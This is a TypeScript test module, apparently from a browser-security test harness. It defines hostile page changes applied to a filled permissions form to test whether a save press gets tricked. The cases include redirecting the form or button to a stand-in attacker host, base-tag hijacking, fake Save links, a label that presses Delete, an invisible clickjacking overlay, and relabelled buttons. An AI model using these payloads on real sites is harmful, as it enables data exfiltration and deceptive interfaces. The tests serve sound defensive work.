import type { Page } from 'puppeteer-core';
import { type Attack, evil } from '../attack.ts';
import { saveAfter } from '../scene/saving.ts';
import type { Scene } from '../scene/scene.ts';

/** Changes the page of the form; `own` is the form, and `save` the button that saves it. */
type Change = (own: HTMLFormElement, save: HTMLElement, address: string) => void;

const elsewhere = `https://${evil.host}/`;

/** Runs a change in the page, on the form that was filled. */
function changing(change: Change) {
  return (page: Page) =>
    page.evaluate(`(() => {
      const own = document.querySelector('[data-truth="permission.title"]').form;
      const save = [...own.elements].find(({ type }) => type === 'submit');
      (${change})(own, save, ${JSON.stringify(elsewhere)});
    })()`);
}

const attack = (
  name: string,
  tries: string,
  change: Change,
  more: Partial<Attack> = {},
): Attack => ({
  name: `a press that saves: ${name}`,
  tries,
  run: async (scene) => {
    const { outcome, pressed } = await saveAfter(scene, changing(change));
    if (outcome === undefined) throw new Error('Nobody answered.');
    return outcome === 'pressed' || pressed.length > 0 ? 'accepted' : 'refused';
  },
  ...more,
});

/** What a page may put in the place of the button that saves, once the form was filled and read back. */
export const savePresses: readonly Attack[] = [
  attack('a second “Save”', 'one more of that name in the same form', (own) => {
    own.append(Object.assign(document.createElement('button'), { textContent: 'Save' }));
  }),
  attack('the “Save” of another form', 'the form’s own one is gone', (_, save) => {
    const other = document.createElement('form');
    document.body.prepend(other);
    other.append(save);
  }),
  attack('a form that is sent elsewhere', `action="${elsewhere}"`, (own, _, address) => {
    own.setAttribute('action', address);
  }),
  attack('a button that sends elsewhere', `formaction="${elsewhere}"`, (_, save, address) => {
    save.setAttribute('formaction', address);
  }),
  attack(
    'an address that a base leads elsewhere',
    'action="save" below a base',
    (own, _, address) => {
      own.setAttribute('action', 'save');
      document.head.append(Object.assign(document.createElement('base'), { href: address }));
    },
  ),
  attack('a window that a base names', '<base target="_blank">', () => {
    document.head.append(Object.assign(document.createElement('base'), { target: '_blank' }));
  }),
  attack(
    'a link dressed as “Save”',
    `role="button" on a link to ${elsewhere}`,
    (own, save, address) => {
      save.remove();
      const link = Object.assign(document.createElement('a'), {
        href: address,
        textContent: 'Save',
      });
      link.setAttribute('role', 'button');
      own.append(link);
    },
  ),
  attack('a button in a link around its shadow root', elsewhere, (own, save, address) => {
    save.remove();
    const link = Object.assign(document.createElement('a'), { href: address });
    const shell = document.createElement('span');
    shell.attachShadow({ mode: 'open' }).innerHTML = '<span role="button" tabindex="0">Save</span>';
    link.append(shell);
    own.append(link);
  }),
  attack('a label of another button', 'a press on it presses “Delete”', (own, save) => {
    save.remove();
    const label = Object.assign(document.createElement('label'), { htmlFor: 'hostile' });
    label.innerHTML = '<span role="button" tabindex="0">Save</span>';
    const other = { id: 'hostile', textContent: 'Delete' };
    own.append(label, Object.assign(document.createElement('button'), other));
  }),
  attack('something invisible over it', 'an element without opacity over the page', () => {
    const cover = document.createElement('div');
    cover.style.cssText = 'position: fixed; inset: 0; z-index: 99999; opacity: 0';
    document.body.append(cover);
  }),
  attack('another value than was read back', 'a name of the page’s own', (own) => {
    const title = own.querySelector('[data-truth="permission.title"]');
    if (title instanceof HTMLInputElement) title.value = 'Editors';
  }),
  attack('another address', 'the page of another object, without a load', () => {
    history.pushState(null, '', '/admin/permissions/new?copy=7');
  }),
  attack('a button whose name says “delete”', 'name="delete"', (_, save) => {
    save.setAttribute('name', 'delete');
  }),
  attack('a button that is announced as “Delete”', 'aria-label="Delete"', (_, save) => {
    save.setAttribute('aria-label', 'Delete');
  }),
  attack(
    'a disabled button that becomes another',
    'it says “Delete” once it can be pressed',
    (_, save) => {
      save.setAttribute('disabled', '');
      save.setAttribute('aria-label', 'Save');
      setTimeout(() => {
        if (save instanceof HTMLInputElement) save.value = 'Delete';
        else save.textContent = 'Delete';
        save.removeAttribute('disabled');
      }, 300);
    },
  ),
  attack(
    'a “Save” in a frame',
    'the form’s own one is gone',
    (own, save) => {
      save.remove();
      const frame = document.createElement('iframe');
      frame.srcdoc = '<form><button>Save</button></form>';
      own.append(frame);
    },
    // Of a frame nothing is looked at: the document that was filled is asked alone.
    { canSucceed: false },
  ),
];

/** That a page which does nothing of the kind is saved. */
export async function canSave(scene: Scene): Promise<boolean> {
  const { outcome, pressed } = await saveAfter(scene, async () => undefined);
  return outcome === 'pressed' && pressed.length > 0;
}
